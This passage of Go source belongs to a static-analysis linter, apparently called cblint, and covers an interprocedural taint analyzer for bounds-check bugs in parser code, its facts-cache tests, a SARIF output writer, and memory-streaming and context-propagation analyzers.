		// Locals can be fully overwritten by a plain ident assignment;
		// anything else unions (coarse, monotone).
		if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" {
			old := ta.vars[obj]
			nw := old | t
			if nw != old {
				ta.vars[obj] = nw
				ta.change = true
			}
			return
		}
	}
	old := ta.vars[obj]
	nw := old | t
	if nw != old {
		ta.vars[obj] = nw
		ta.change = true
	}
}

// rootObj peels an expression to its base identifier's object.
func (ta *taintAnalysis) rootObj(expr ast.Expr) types.Object {
	for {
		switch e := expr.(type) {
		case *ast.Ident:
			if e.Name == "_" {
				return nil
			}
			if obj := ta.pkg.Info.Defs[e]; obj != nil {
				return obj
			}
			return ta.pkg.Info.Uses[e]
		case *ast.SelectorExpr:
			expr = e.X
		case *ast.IndexExpr:
			expr = e.X
		case *ast.SliceExpr:
			expr = e.X
		case *ast.StarExpr:
			expr = e.X
		case *ast.ParenExpr:
			expr = e.X
		default:
			return nil
		}
	}
}

// eval computes an expression's taint.
func (ta *taintAnalysis) eval(expr ast.Expr) taintSet {
	switch e := expr.(type) {
	case *ast.Ident:
		if obj := ta.pkg.Info.Uses[e]; obj != nil {
			return ta.vars[obj]
		}
		if obj := ta.pkg.Info.Defs[e]; obj != nil {
			return ta.vars[obj]
		}
		return 0
	case *ast.SelectorExpr:
		// Package-qualified names have no value taint of their own; field
		// selection inherits the owner's taint.
		if id, ok := e.X.(*ast.Ident); ok {
			if _, isPkg := ta.pkg.Info.Uses[id].(*types.PkgName); isPkg {
				return 0
			}
		}
		return ta.eval(e.X)
	case *ast.IndexExpr:
		return ta.eval(e.X)
	case *ast.SliceExpr:
		return ta.eval(e.X)
	case *ast.StarExpr:
		return ta.eval(e.X)
	case *ast.ParenExpr:
		return ta.eval(e.X)
	case *ast.UnaryExpr:
		return ta.eval(e.X)
	case *ast.TypeAssertExpr:
		return ta.eval(e.X)
	case *ast.BinaryExpr:
		return ta.evalBinary(e)
	case *ast.CallExpr:
		return ta.callTaint(e)
	case *ast.CompositeLit:
		var t taintSet
		for _, elt := range e.Elts {
			if kv, ok := elt.(*ast.KeyValueExpr); ok {
				t |= ta.eval(kv.Value)
				continue
			}
			t |= ta.eval(elt)
		}
		return t
	}
	return 0
}

// evalBinary unions operand taint, with two sanitizers: comparisons yield
// booleans (clean), and modulo / bitwise-and by an untainted bound yields a
// bounded value (clean) — `v % len(table)` and `b & 0x0f` are the parsers'
// idiomatic clamps.
func (ta *taintAnalysis) evalBinary(e *ast.BinaryExpr) taintSet {
	switch e.Op {
	case token.LSS, token.LEQ, token.GTR, token.GEQ, token.EQL, token.NEQ,
		token.LAND, token.LOR:
		return 0
	case token.REM, token.AND:
		if ta.eval(e.Y) == 0 {
			return 0
		}
	}
	return ta.eval(e.X) | ta.eval(e.Y)
}

// callTaint resolves a call's callee, propagates taint through its summary
// (or conservatively through unknown callees), and — during the report pass
// — fires call-site sink findings for summarized parameter sinks.
func (ta *taintAnalysis) callTaint(call *ast.CallExpr) taintSet {
	// Conversions: taint passes through; narrowing sign-changing integer
	// conversions of tainted values are themselves a sink.
	if tv, ok := ta.pkg.Info.Types[call.Fun]; ok && tv.IsType() && len(call.Args) == 1 {
		t := ta.eval(call.Args[0])
		if ta.report {
			ta.checkConversionSink(call, t)
		}
		return t
	}
	if id, ok := unparen(call.Fun).(*ast.Ident); ok {
		if t, handled := ta.builtinTaint(id.Name, call); handled {
			return t
		}
	}
	callee := ta.calleeFunc(call)
	if callee == nil {
		// Indirect call through a function value: propagate argument taint.
		return ta.unionArgs(call, nil)
	}
	pkgPath := ""
	if callee.Pkg() != nil {
		pkgPath = callee.Pkg().Path()
	}
	if isSourceFunc(pkgPath, callee.Name()) && callee.Type().(*types.Signature).Recv() == nil {
		return taintFromSource
	}
	if isRegexpMethod(callee) {
		if ta.report {
			ta.checkMustCompile(callee, call)
		}
		// Match positions and submatches returned by a compiled regexp are
		// index-valid for the searched input by contract.
		return 0
	}
	if ta.report {
		ta.checkMustCompile(callee, call)
	}
	ff := ta.factsFor(callee, pkgPath)
	argTaints, argExprs := ta.callArgs(call, callee)
	if ff == nil {
		var t taintSet
		for _, at := range argTaints {
			t |= at
		}
		return t
	}
	var out taintSet
	for _, flow := range ff.Flows {
		if flow.Param < len(argTaints) {
			out |= argTaints[flow.Param]
		}
	}
	if len(ff.TaintedResults) > 0 {
		out |= taintFromSource
	}
	for _, sink := range ff.Sinks {
		if sink.Param >= len(argTaints) || argTaints[sink.Param] == 0 {
			continue
		}
		t := argTaints[sink.Param]
		arg := argExprs[sink.Param]
		if arg != nil && ta.guardedBefore(arg, call.Pos()) {
			continue
		}
		if ta.report && t.fromSource() && arg != nil {
			ta.emitDiag(call.Pos(), fmt.Sprintf(
				"tainted argument %s reaches %s inside %s; add a bounds check before the call",
				exprString(arg), sink.Sink, funcKey(callee)))
		}
		for _, p := range t.paramList() {
			ta.sum.sinks[ParamSink{Param: p, Sink: sink.Sink}] = true
		}
	}
	return out
}

// builtinTaint handles Go's builtin functions. len/cap are clean (bounded
// by real data), append unions its operands, make is clean (its size
// argument is the sink, checked separately), and min/max with any untainted
// operand is a clamp.
func (ta *taintAnalysis) builtinTaint(name string, call *ast.CallExpr) (taintSet, bool) {
	if obj, ok := ta.pkg.Info.Uses[unparen(call.Fun).(*ast.Ident)]; ok {
		if _, isBuiltin := obj.(*types.Builtin); !isBuiltin {
			return 0, false
		}
	}
	switch name {
	case "len", "cap", "new", "copy", "delete", "clear", "close", "panic",
		"print", "println", "real", "imag", "complex", "recover":
		return 0, true
	case "append":
		var t taintSet
		for _, arg := range call.Args {
			t |= ta.eval(arg)
		}
		return t, true
	case "make":
		if ta.report {
			for _, arg := range call.Args[1:] {
				ta.sinkValue(arg, call.Pos(), "make length", fmt.Sprintf(
					"make sized by tainted length %s without a bounds check", exprString(arg)))
			}
		}
		return 0, true
	case "min", "max":
		var t taintSet
		for _, arg := range call.Args {
			at := ta.eval(arg)
			if at == 0 {
				return 0, true // clamped by an untainted bound
			}
			t |= at
		}
		return t, true
	}
	return 0, false
}

// calleeFunc resolves the called function object, if any.
func (ta *taintAnalysis) calleeFunc(call *ast.CallExpr) *types.Func {
	switch fun := unparen(call.Fun).(type) {
	case *ast.Ident:
		if fn, ok := ta.pkg.Info.Uses[fun].(*types.Func); ok {
			return fn
		}
	case *ast.SelectorExpr:
		if fn, ok := ta.pkg.Info.Uses[fun.Sel].(*types.Func); ok {
			return fn
		}
	}
	return nil
}

// factsFor finds a callee's summary: same package from the in-progress
// table, other packages through the engine.
func (ta *taintAnalysis) factsFor(callee *types.Func, pkgPath string) *FuncFacts {
	key := funcKey(callee)
	if ta.pkg.Types != nil && callee.Pkg() == ta.pkg.Types {
		return ta.local[key]
	}
	if ta.lookup == nil || pkgPath == "" {
		return nil
	}
	pf := ta.lookup(pkgPath)
	if pf == nil {
		return nil
	}
	return pf.Funcs[key]
}

// callArgs evaluates the call's effective argument list: the receiver
// first for method calls, then the declared arguments — matching the
// parameter indexing funcKey summaries use.
func (ta *taintAnalysis) callArgs(call *ast.CallExpr, callee *types.Func) ([]taintSet, []ast.Expr) {
	var taints []taintSet
	var exprs []ast.Expr
	if sig, ok := callee.Type().(*types.Signature); ok && sig.Recv() != nil {
		if sel, ok := unparen(call.Fun).(*ast.SelectorExpr); ok {
			taints = append(taints, ta.eval(sel.X))
			exprs = append(exprs, sel.X)
		} else {
			taints = append(taints, 0)
			exprs = append(exprs, nil)
		}
	}
	for _, arg := range call.Args {
		taints = append(taints, ta.eval(arg))
		exprs = append(exprs, arg)
	}
	return taints, exprs
}

// checkIndexSink flags tainted indexes into slices, arrays, and strings.
// Map indexing never panics and is skipped.
func (ta *taintAnalysis) checkIndexSink(idx *ast.IndexExpr) {
	if !ta.indexableSink(idx.X) {
		return
	}
	ta.sinkValue(idx.Index, idx.Pos(), "slice index", fmt.Sprintf(
		"tainted index %s into %s without a bounds check",
		exprString(idx.Index), exprString(idx.X)))
}

// checkSliceSink flags tainted slice bounds.
func (ta *taintAnalysis) checkSliceSink(sl *ast.SliceExpr) {
	if !ta.indexableSink(sl.X) {
		return
	}
	for _, bound := range []ast.Expr{sl.Low, sl.High, sl.Max} {
		if bound == nil {
			continue
		}
		ta.sinkValue(bound, sl.Pos(), "slice bound", fmt.Sprintf(
			"tainted slice bound %s on %s without a bounds check",
			exprString(bound), exprString(sl.X)))
	}
}

// sinkValue is the shared sink reporter: constant expressions are safe,
// source taint without a lexical guard is a finding, and parameter taint
// becomes a summary sink for call sites to inherit.
func (ta *taintAnalysis) sinkValue(expr ast.Expr, pos token.Pos, kind, msg string) {
	if tv, ok := ta.pkg.Info.Types[expr]; ok && tv.Value != nil {
		return
	}
	t := ta.eval(expr)
	if t == 0 {
		return
	}
	guarded := ta.guardedBefore(expr, pos)
	if t.fromSource() && !guarded {
		ta.emitDiag(pos, msg)
	}
	if !guarded {
		for _, p := range t.paramList() {
			ta.sum.sinks[ParamSink{Param: p, Sink: kind}] = true
		}
	}
}

// indexableSink reports whether indexing the expression can panic: slices,
// arrays, and strings qualify; maps and generic instantiations do not.
func (ta *taintAnalysis) indexableSink(x ast.Expr) bool {
	tv, ok := ta.pkg.Info.Types[x]
	if !ok || tv.Type == nil {
		return false
	}
	switch u := tv.Type.Underlying().(type) {
	case *types.Slice, *types.Array:
		return true
	case *types.Pointer:
		_, isArray := u.Elem().Underlying().(*types.Array)
		return isArray
	case *types.Basic:
		return u.Info()&types.IsString != 0
	}
	return false
}

// checkConversionSink flags the overflow-prone conversions: a tainted
// unsigned value converted to a signed integer of no more bits — the
// classic `int(binary.BigEndian.Uint64(hdr))` length-field bug, where a
// huge declared length goes negative and sails through `if n > max` checks.
func (ta *taintAnalysis) checkConversionSink(call *ast.CallExpr, t taintSet) {
	if t == 0 {
		return
	}
	target := basicOf(ta.pkg, call)
	src := basicOf(ta.pkg, call.Args[0])
	if target == nil || src == nil {
		return
	}
	if target.Info()&types.IsInteger == 0 || src.Info()&types.IsInteger == 0 {
		return
	}
	if target.Info()&types.IsUnsigned != 0 || src.Info()&types.IsUnsigned == 0 {
		return
	}
	if intBits(target) > intBits(src) {
		return
	}
	guarded := ta.guardedBefore(call.Args[0], call.Pos())
	if t.fromSource() && !guarded {
		ta.emitDiag(call.Pos(), fmt.Sprintf(
			"unchecked integer conversion %s of tainted unsigned value may go negative; bound it first",
			exprString(call)))
	}
	if !guarded {
		for _, p := range t.paramList() {
			ta.sum.sinks[ParamSink{Param: p, Sink: "integer conversion"}] = true
		}
	}
}

// checkMustCompile flags regexp.MustCompile of tainted patterns — a panic
// an attacker-controlled string triggers directly. No guard exempts it: a
// bounds check cannot validate a regular expression.
func (ta *taintAnalysis) checkMustCompile(callee *types.Func, call *ast.CallExpr) {
	if callee.Pkg() == nil || callee.Pkg().Path() != "regexp" {
		return
	}
	if callee.Name() != "MustCompile" && callee.Name() != "MustCompilePOSIX" {
		return
	}
	if len(call.Args) != 1 {
		return
	}
	t := ta.eval(call.Args[0])
	if t == 0 {
		return
	}
	if t.fromSource() {
		ta.emitDiag(call.Pos(), fmt.Sprintf(
			"regexp.%s of tainted pattern %s panics on attacker-chosen input; use regexp.Compile and handle the error",
			callee.Name(), exprString(call.Args[0])))
	}
	for _, p := range t.paramList() {
		ta.sum.sinks[ParamSink{Param: p, Sink: "regexp.MustCompile pattern"}] = true
	}
}

// isRegexpMethod reports whether the callee is a method on regexp.Regexp.
func isRegexpMethod(fn *types.Func) bool {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	t := sig.Recv().Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	return n.Obj().Name() == "Regexp" && n.Obj().Pkg() != nil && n.Obj().Pkg().Path() == "regexp"
}

// recordReturn folds the return values' taint into the summary.
func (ta *taintAnalysis) recordReturn(ret *ast.ReturnStmt) {
	results := ret.Results
	if len(results) == 0 && ta.fd.Type.Results != nil {
		// Bare return with named results: read the named result objects.
		i := 0
		for _, field := range ta.fd.Type.Results.List {
			for _, name := range field.Names {
				if obj := ta.pkg.Info.Defs[name]; obj != nil {
					ta.recordResultTaint(i, ta.vars[obj])
				}
				i++
			}
		}
		return
	}
	if len(results) == 1 && ta.nresults > 1 {
		// return f() — a tuple passthrough; apply the call taint to all.
		t := ta.eval(results[0])
		for i := 0; i < ta.nresults; i++ {
			ta.recordResultTaint(i, t)
		}
		return
	}
	for i, r := range results {
		ta.recordResultTaint(i, ta.eval(r))
	}
}

func (ta *taintAnalysis) recordResultTaint(i int, t taintSet) {
	if t.fromSource() {
		ta.sum.taintedResults[i] = true
	}
	for _, p := range t.paramList() {
		if ta.sum.flows[p] == nil {
			ta.sum.flows[p] = map[int]bool{}
		}
		ta.sum.flows[p][i] = true
	}
}

// guardedBefore implements the lexical guard rule: the sink value counts as
// bounds-checked when, lexically before the sink in the same function, any
// comparison, switch tag, or if-condition mentions any local variable the
// sink expression is built from. This accepts the idioms the parsers use —
// `if n > len(b) { return }`, loop conditions `i < len(s)`, `if end < 0 {
// end = … }`, predicate guards like `if m.In(x, y)` — without attempting
// path-sensitive analysis.
func (ta *taintAnalysis) guardedBefore(expr ast.Expr, pos token.Pos) bool {
	objs := ta.localRoots(expr)
	if len(objs) == 0 {
		return false
	}
	found := false
	ast.Inspect(ta.fd.Body, func(n ast.Node) bool {
		if found {
			return false
		}
		switch node := n.(type) {
		case *ast.BinaryExpr:
			if node.Pos() >= pos {
				return true
			}
			switch node.Op {
			case token.LSS, token.LEQ, token.GTR, token.GEQ, token.EQL, token.NEQ:
				if ta.mentionsAny(node, objs) {
					found = true
					return false
				}
			}
		case *ast.IfStmt:
			if node.Cond != nil && node.Cond.End() <= pos && ta.mentionsAny(node.Cond, objs) {
				found = true
				return false
			}
		case *ast.SwitchStmt:
			if node.Tag != nil && node.Pos() < pos && ta.mentionsAny(node.Tag, objs) {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// localRoots collects the local variable objects an expression reads.
func (ta *taintAnalysis) localRoots(expr ast.Expr) map[types.Object]bool {
	objs := map[types.Object]bool{}
	ast.Inspect(expr, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := ta.pkg.Info.Uses[id]
		if obj == nil {
			obj = ta.pkg.Info.Defs[id]
		}
		if v, ok := obj.(*types.Var); ok && !v.IsField() {
			objs[obj] = true
		}
		return true
	})
	return objs
}

// mentionsAny reports whether the expression references any of the objects.
func (ta *taintAnalysis) mentionsAny(expr ast.Expr, objs map[types.Object]bool) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if found {
			return false
		}
		if id, ok := n.(*ast.Ident); ok {
			if obj := ta.pkg.Info.Uses[id]; obj != nil && objs[obj] {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// unionArgs is the conservative propagation for unresolvable callees.
func (ta *taintAnalysis) unionArgs(call *ast.CallExpr, extra ast.Expr) taintSet {
	var t taintSet
	if extra != nil {
		t |= ta.eval(extra)
	}
	for _, arg := range call.Args {
		t |= ta.eval(arg)
	}
	// A method value call through a variable: taint flows from the value.
	if sel, ok := unparen(call.Fun).(*ast.SelectorExpr); ok {
		t |= ta.eval(sel.X)
	}
	return t
}

func (ta *taintAnalysis) emitDiag(pos token.Pos, msg string) {
	if ta.emit == nil {
		return
	}
	key := fmt.Sprintf("%d|%s", pos, msg)
	if ta.emitted[key] {
		return
	}
	ta.emitted[key] = true
	ta.emit(Diagnostic{
		Analyzer: "taintflow",
		Pos:      ta.pkg.Fset.Position(pos),
		Message:  msg,
	})
}

// basicOf returns the expression's basic type, or nil.
func basicOf(pkg *Package, expr ast.Expr) *types.Basic {
	tv, ok := pkg.Info.Types[expr]
	if !ok || tv.Type == nil {
		return nil
	}
	b, _ := tv.Type.Underlying().(*types.Basic)
	return b
}

// intBits returns the width of an integer type; platform-sized int, uint,
// and uintptr count as 64, the pipeline's deployment target.
func intBits(b *types.Basic) int {
	switch b.Kind() {
	case types.Int8, types.Uint8:
		return 8
	case types.Int16, types.Uint16:
		return 16
	case types.Int32, types.Uint32:
		return 32
	}
	return 64
}

func unparen(e ast.Expr) ast.Expr {
	for {
		p, ok := e.(*ast.ParenExpr)
		if !ok {
			return e
		}
		e = p.X
	}
}
