package lint

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const (
	taintfixPath = "crawlerbox/internal/lint/testdata/src/taintfix"
	taintlibPath = "crawlerbox/internal/lint/testdata/src/taintfix/taintlib"
)

func newTestFacts() *Facts {
	return NewFacts(NewLoader(filepath.Join("..", "..")))
}

// TestFactsSummaryForTaintlib pins the export data the fixture relies on:
// taintlib.At sinks its index parameter (param 1 — param 0 is the slice).
func TestFactsSummaryForTaintlib(t *testing.T) {
	pf := newTestFacts().For(taintlibPath)
	if pf == nil {
		t.Fatalf("no facts for %s", taintlibPath)
	}
	if !strings.HasPrefix(pf.Hash, "sha256:") {
		t.Errorf("package hash = %q, want sha256-prefixed", pf.Hash)
	}
	ff := pf.Funcs["At"]
	if ff == nil {
		t.Fatalf("no summary for At; have %v", pf.Funcs)
	}
	found := false
	for _, s := range ff.Sinks {
		if s.Param == 1 && s.Sink == "slice index" {
			found = true
		}
	}
	if !found {
		t.Errorf("At sinks = %+v, want param 1 reaching a slice index", ff.Sinks)
	}
}

// TestFactsRecordsDeps verifies compute-time provenance: a package that
// consumed a dependency's facts records the dependency's hash, which is
// what cache validation replays.
func TestFactsRecordsDeps(t *testing.T) {
	pf := newTestFacts().For(taintfixPath)
	if pf == nil {
		t.Fatalf("no facts for %s", taintfixPath)
	}
	if _, ok := pf.Deps[taintlibPath]; !ok {
		t.Errorf("deps = %v, want %s recorded", pf.Deps, taintlibPath)
	}
}

// TestFactsCacheRoundTripAndInvalidation exercises the cache lifecycle:
// save, adopt on reload, recompute on a stale content hash, and discard on
// an analyzer version mismatch.
func TestFactsCacheRoundTripAndInvalidation(t *testing.T) {
	cache := filepath.Join(t.TempDir(), "facts.json")
	e1 := newTestFacts()
	e1.LoadCache(cache)
	pf1 := e1.For(taintlibPath)
	if pf1 == nil {
		t.Fatalf("no facts for %s", taintlibPath)
	}
	if err := e1.SaveCache(); err != nil {
		t.Fatalf("SaveCache: %v", err)
	}

	// A fresh engine adopts the cached entry and lands on the same summary.
	e2 := newTestFacts()
	e2.LoadCache(cache)
	if len(e2.disk) == 0 {
		t.Fatal("cache file loaded no entries")
	}
	pf2 := e2.For(taintlibPath)
	if pf2 == nil || pf2.Hash != pf1.Hash {
		t.Fatalf("reloaded facts = %+v, want hash %s", pf2, pf1.Hash)
	}
	if !equalFacts(pf1.Funcs["At"], pf2.Funcs["At"]) {
		t.Errorf("cached summary diverged: %+v vs %+v", pf1.Funcs["At"], pf2.Funcs["At"])
	}

	// A stale content hash invalidates the entry; the engine recomputes and
	// lands back on the true hash instead of trusting the cache.
	data, err := os.ReadFile(cache)
	if err != nil {
		t.Fatal(err)
	}
	var f factCacheFile
	if err := json.Unmarshal(data, &f); err != nil {
		t.Fatal(err)
	}
	f.Packages[taintlibPath].Hash = "sha256:stale"
	tampered, _ := json.Marshal(f)
	if err := os.WriteFile(cache, tampered, 0o644); err != nil {
		t.Fatal(err)
	}
	e3 := newTestFacts()
	e3.LoadCache(cache)
	pf3 := e3.For(taintlibPath)
	if pf3 == nil || pf3.Hash != pf1.Hash {
		t.Errorf("stale entry not recomputed: %+v, want hash %s", pf3, pf1.Hash)
	}

	// A version mismatch discards the whole file.
	f.Packages[taintlibPath].Hash = pf1.Hash
	f.Version = "0.0.0"
	mismatched, _ := json.Marshal(f)
	if err := os.WriteFile(cache, mismatched, 0o644); err != nil {
		t.Fatal(err)
	}
	e4 := newTestFacts()
	e4.LoadCache(cache)
	if len(e4.disk) != 0 {
		t.Errorf("version-mismatched cache produced %d entries, want 0", len(e4.disk))
	}
}
