package lint

import (
	"encoding/json"
	"io"
)

// This file emits findings as SARIF 2.1.0 — the minimal subset CI
// annotation consumers (GitHub code scanning and friends) read: one run,
// one rule per analyzer, one result per finding with a physical location.

type sarifLog struct {
	Schema  string     `json:"$schema"`
	Version string     `json:"version"`
	Runs    []sarifRun `json:"runs"`
}

type sarifRun struct {
	Tool    sarifTool     `json:"tool"`
	Results []sarifResult `json:"results"`
}

type sarifTool struct {
	Driver sarifDriver `json:"driver"`
}

type sarifDriver struct {
	Name    string      `json:"name"`
	Version string      `json:"version"`
	Rules   []sarifRule `json:"rules"`
}

type sarifRule struct {
	ID               string    `json:"id"`
	ShortDescription sarifText `json:"shortDescription"`
}

type sarifText struct {
	Text string `json:"text"`
}

type sarifResult struct {
	RuleID    string          `json:"ruleId"`
	Level     string          `json:"level"`
	Message   sarifText       `json:"message"`
	Locations []sarifLocation `json:"locations"`
}

type sarifLocation struct {
	PhysicalLocation sarifPhysical `json:"physicalLocation"`
}

type sarifPhysical struct {
	ArtifactLocation sarifArtifact `json:"artifactLocation"`
	Region           sarifRegion   `json:"region"`
}

type sarifArtifact struct {
	URI string `json:"uri"`
}

type sarifRegion struct {
	StartLine   int `json:"startLine"`
	StartColumn int `json:"startColumn,omitempty"`
}

// WriteSARIF serializes findings as a SARIF 2.1.0 log. Diagnostics must
// carry repo-relative File paths (SARIF URIs are checkout-relative). The
// rule table always lists the full registry so consumers can render rule
// metadata even for analyzers with no findings this run.
func WriteSARIF(w io.Writer, diags []Diagnostic) error {
	var rules []sarifRule
	for _, a := range Registry() {
		rules = append(rules, sarifRule{
			ID:               a.Name(),
			ShortDescription: sarifText{Text: a.Doc()},
		})
	}
	results := []sarifResult{}
	for _, d := range diags {
		results = append(results, sarifResult{
			RuleID:  d.Analyzer,
			Level:   "warning",
			Message: sarifText{Text: d.Message},
			Locations: []sarifLocation{{
				PhysicalLocation: sarifPhysical{
					ArtifactLocation: sarifArtifact{URI: d.File},
					Region:           sarifRegion{StartLine: d.Line, StartColumn: d.Col},
				},
			}},
		})
	}
	log := sarifLog{
		Schema:  "https://json.schemastore.org/sarif-2.1.0.json",
		Version: "2.1.0",
		Runs: []sarifRun{{
			Tool:    sarifTool{Driver: sarifDriver{Name: "cblint", Version: Version, Rules: rules}},
			Results: results,
		}},
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(log)
}
