package lint

import (
	"sort"
	"strings"
)

// TaintFlow flags attacker-controlled values reaching panic-prone sinks.
// Results of the parser entry points (mime.Parse, htmlx.Parse, pdfx.Parse,
// qrcode.DecodeMatrix/DecodeImage, minijs.Parse, urlx.Extract*) are taint
// sources, as are the parameters of exported functions inside those parser
// packages — the bytes arriving there come straight off the wire. A tainted
// value used as a slice/array/string index or slice bound, a make length, a
// narrowing unsigned-to-signed conversion, or a regexp.MustCompile pattern
// with no guarding bounds check in the same function is a finding.
// Propagation is interprocedural: the facts engine summarizes every
// function's parameter-to-result flows and parameter-to-sink reaches, so a
// call that hands tainted bytes to a function that indexes with them
// unguarded fires at the call site.
type TaintFlow struct{}

// Name implements Analyzer.
func (TaintFlow) Name() string { return "taintflow" }

// Doc implements Analyzer.
func (TaintFlow) Doc() string {
	return "flag attacker-controlled parser output reaching panic-prone sinks (indexing, make, integer conversions, MustCompile) without a bounds check"
}

// Applies implements Analyzer: internal/ and cmd/ trees, like streamsafe —
// taint does not stop at the parser boundary.
func (TaintFlow) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/") ||
		strings.Contains(importPath+"/", "/cmd/") ||
		strings.HasPrefix(importPath, "cmd/")
}

// Check implements Analyzer. The facts engine supplies dependency
// summaries; when it is nil the analysis degrades to intra-package (callee
// summaries from this package only).
func (TaintFlow) Check(pkg *Package, facts *Facts) []Diagnostic {
	if pkg.Info == nil {
		return nil
	}
	var lookup func(string) *PackageFacts
	if facts != nil {
		facts.Record(pkg)
		lookup = facts.For
	}
	// Converge the package's own summaries first (the in-progress table call
	// sites consult), then re-run each function with emit wired up.
	local := computeTaintFacts(pkg, lookup)
	var diags []Diagnostic
	decls := taintableFuncs(pkg)
	keys := make([]string, 0, len(decls))
	//cblint:ignore maprange keys collected then sorted
	for key := range decls {
		keys = append(keys, key)
	}
	emit := func(d Diagnostic) { diags = append(diags, d) }
	sort.Strings(keys)
	for _, key := range keys {
		ta := newTaintAnalysis(pkg, decls[key], local, lookup, emit)
		ta.run()
	}
	return diags
}
