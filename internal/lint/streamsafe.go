package lint

import (
	"fmt"
	"go/ast"
	"go/types"
	"strings"
)

// StreamSafe guards the million-message memory contract (DESIGN.md §12):
// corpus processing must stream — Corpus.Each renders one message at a
// time and Analyze folds per-worker census shards — so peak memory is
// O(workers), not O(corpus). Code that ranges over the whole in-RAM ledger
// (dataset.Corpus.Messages, report.Run.Analyses) or preallocates a slice
// sized by one reintroduces the O(corpus) footprint the streaming API
// exists to eliminate, and silently breaks on corpora built by
// dataset.Stream, whose Messages carry no rendered bytes and whose Runs
// keep Analyses nil.
//
// The sanctioned sites — Generate's materialization loop, Each's own
// iterator, the census fallback for manually assembled Runs — carry an
// explicit "//cblint:ignore streamsafe <reason>" each.
type StreamSafe struct{}

// streamLedgers maps the guarded field selectors to the owning type: a
// selector named <key> on a value of type <pkgSuffix>.<typeName> is a
// whole-corpus ledger access.
var streamLedgers = map[string]struct {
	pkgSuffix string
	typeName  string
	advice    string
}{
	"Messages": {"internal/dataset", "Corpus", "stream with Corpus.Each/Len instead"},
	"Analyses": {"internal/report", "Run", "fold aggregates through CensusShard instead (streamed runs keep Analyses nil)"},
}

// Name implements Analyzer.
func (StreamSafe) Name() string { return "streamsafe" }

// Doc implements Analyzer.
func (StreamSafe) Doc() string {
	return "forbid whole-corpus materialization (ranging over or sizing by Corpus.Messages / Run.Analyses) outside the sanctioned streaming sites"
}

// Applies implements Analyzer: internal production packages and the CLIs.
func (StreamSafe) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/") ||
		strings.Contains(importPath+"/", "/cmd/") ||
		strings.HasPrefix(importPath, "cmd/")
}

// Check implements Analyzer.
func (s StreamSafe) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	for _, f := range pkg.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch node := n.(type) {
			case *ast.RangeStmt:
				if field, ok := s.ledgerSelector(pkg, node.X); ok {
					diags = append(diags, Diagnostic{
						Analyzer: s.Name(),
						Pos:      pkg.Fset.Position(node.Pos()),
						Message: fmt.Sprintf(
							"range over %s materializes the whole corpus in RAM; %s",
							exprString(node.X), streamLedgers[field].advice),
					})
				}
			case *ast.CallExpr:
				if fn, ok := node.Fun.(*ast.Ident); !ok || fn.Name != "make" {
					return true
				}
				// make(T, len(ledger)) or make(T, n, len(ledger)): the
				// allocation is sized by the whole corpus.
				for _, arg := range node.Args[1:] {
					call, ok := arg.(*ast.CallExpr)
					if !ok {
						continue
					}
					lenFn, ok := call.Fun.(*ast.Ident)
					if !ok || lenFn.Name != "len" || len(call.Args) != 1 {
						continue
					}
					if field, ok := s.ledgerSelector(pkg, call.Args[0]); ok {
						diags = append(diags, Diagnostic{
							Analyzer: s.Name(),
							Pos:      pkg.Fset.Position(node.Pos()),
							Message: fmt.Sprintf(
								"allocation sized by the whole corpus (len(%s)); %s",
								exprString(call.Args[0]), streamLedgers[field].advice),
						})
					}
				}
			}
			return true
		})
	}
	return diags
}

// ledgerSelector reports whether expr selects one of the guarded ledger
// fields off its owning type, returning the field name on a match. The
// check is type-driven: a field named Messages on an unrelated struct does
// not count.
func (StreamSafe) ledgerSelector(pkg *Package, expr ast.Expr) (string, bool) {
	sel, ok := expr.(*ast.SelectorExpr)
	if !ok {
		return "", false
	}
	ledger, ok := streamLedgers[sel.Sel.Name]
	if !ok || pkg.Info == nil {
		return "", false
	}
	tv, ok := pkg.Info.Types[sel.X]
	if !ok || tv.Type == nil {
		return "", false
	}
	t := tv.Type
	if ptr, ok := t.Underlying().(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return "", false
	}
	obj := named.Obj()
	if obj.Name() != ledger.typeName || obj.Pkg() == nil {
		return "", false
	}
	path := obj.Pkg().Path()
	if path != ledger.pkgSuffix && !strings.HasSuffix(path, "/"+ledger.pkgSuffix) {
		return "", false
	}
	return sel.Sel.Name, true
}
