package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// CtxFlow enforces context discipline. Fresh root contexts belong at the
// program edges — cmd/ mains, examples, tests; library code threads the
// caller's ctx so cancellation actually reaches the network layer (the
// corpus runner's cancellation guarantee depends on it). Two rules:
//
//  1. background: context.Background()/context.TODO() in library code.
//  2. ctxdrop: a function that has a ctx parameter in scope calls a callee
//     that accepts a context but feeds it a fresh Background/TODO instead
//     of the in-scope ctx — silently severing the cancellation chain. This
//     rule applies everywhere, including cmd/.
type CtxFlow struct{}

// Name implements Analyzer.
func (CtxFlow) Name() string { return "ctxflow" }

// Doc implements Analyzer.
func (CtxFlow) Doc() string {
	return "forbid context.Background/TODO outside cmd/, examples/, and tests; flag calls that drop an in-scope ctx"
}

// Applies implements Analyzer. The background rule is scoped out of cmd/
// and examples/ inside Check; the analyzer itself covers every package so
// ctxdrop still fires at the edges.
func (CtxFlow) Applies(importPath string) bool { return true }

// libraryCode reports whether the background rule covers the package: true
// everywhere except cmd/ and examples/ trees (tests never reach the
// analyzer — the loader skips _test.go).
func libraryCode(importPath string) bool {
	for _, edge := range []string{"cmd", "examples"} {
		if strings.Contains(importPath, "/"+edge+"/") ||
			strings.HasPrefix(importPath, edge+"/") ||
			strings.HasSuffix(importPath, "/"+edge) {
			return false
		}
	}
